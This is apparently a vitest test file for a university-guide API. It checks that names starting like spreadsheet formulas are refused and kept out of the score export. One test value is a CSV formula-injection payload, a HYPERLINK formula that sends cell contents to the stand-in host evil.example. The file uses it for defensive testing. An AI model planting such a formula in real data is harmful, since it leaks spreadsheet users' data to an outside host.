/**
 * CSV formula injection (issue 20, finding 7): a name a spreadsheet would run as a formula never
 * reaches the score export — the guide's writes refuse it with 400 and the Arabic message.
 */
import { describe, expect, it } from 'vitest';
import { FORMULA_NAME_MESSAGE } from '@dalil/domain/rules';
import { api, as } from './helpers';

const stamp = `${Date.now().toString(36)}${Math.random().toString(36).slice(2, 6)}`.toUpperCase();
const FORMULA = '=HYPERLINK("http://evil.example/?d="&A2&B2,"x")';

const university = (c: string, patch: Record<string, unknown> = {}) => ({
  university_code: c,
  university_Arabic_Name: `جامعة الأسماء ${c}`,
  type: 'Private',
  Uni_Bio: 'نبذة',
  location: '#',
  first_year: '2025',
  second_year: '2024',
  third_year: '2023',
  fourth_year: '2022',
  fifth_year: '2021',
  website: 'https://example.org',
  phone: '0100',
  email: 'info@example.org',
  facebook: '#',
  instagram: '#',
  youtube: '#',
  linkedin: '#',
  ...patch,
});
const offering = (faculty: string) => ({
  faculty,
  faculty_short: 'MED',
  section: 'science',
  normal_or_Dual: 'normal',
  programs: 'برنامج',
  index: 1,
});

function expectRefused(res: { status: number; body: unknown }, what: string) {
  expect(res.status, `${what}: ${JSON.stringify(res.body).slice(0, 300)}`).toBe(400);
  expect(JSON.stringify(res.body)).toContain(FORMULA_NAME_MESSAGE);
}

describe('names that start like a formula', () => {
  it('a university named =… is refused, nothing stored', async () => {
    const c = `FN${stamp}A`;
    expectRefused(
      await as('superAdmin', '/api/private/links/add', {
        method: 'POST',
        body: university(c, { university_Arabic_Name: FORMULA }),
      }),
      'add',
    );
    expect((await api(`/api/private/links/${c}`)).status).toBe(404);
  });

  it.each([FORMULA, '+كلية', '-2+3', '@SUM(1,2)'])('an offering named %j is refused on add', async (name) => {
    const c = `FN${stamp}B${name.length}`;
    expectRefused(
      await as('superAdmin', '/api/private/links/add', {
        method: 'POST',
        body: university(c, { faculties: [offering(name)] }),
      }),
      'add with faculties',
    );
    expect((await api(`/api/private/links/${c}`)).status).toBe(404);
  });

  it('a name with a dash inside is accepted, and the export carries it', async () => {
    const c = `FN${stamp}C`;
    const res = await as('superAdmin', '/api/private/links/add', {
      method: 'POST',
      // The export lists scores only: the offering carries one.
      body: university(c, {
        faculties: [
          {
            ...offering('كلية الطب - القاهرة'),
            thanwyaa_firstYear_score: '90',
            score_source: { url: 'https://example.org/figures-2025', academic_year: '2025/2026' },
          },
        ],
      }),
    });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    const exported = await as('superAdmin', '/api/score-import/export');
    expect(exported.status).toBe(200);
    const rows = (exported.body as { table: string[][] }).table.filter((r) => r[0] === c);
    expect(rows.length).toBeGreaterThan(0);
    expect(rows.every((r) => r.includes('كلية الطب - القاهرة'))).toBe(true);
    await as('superAdmin', `/api/private/${c}`, { method: 'DELETE' });
  });
});
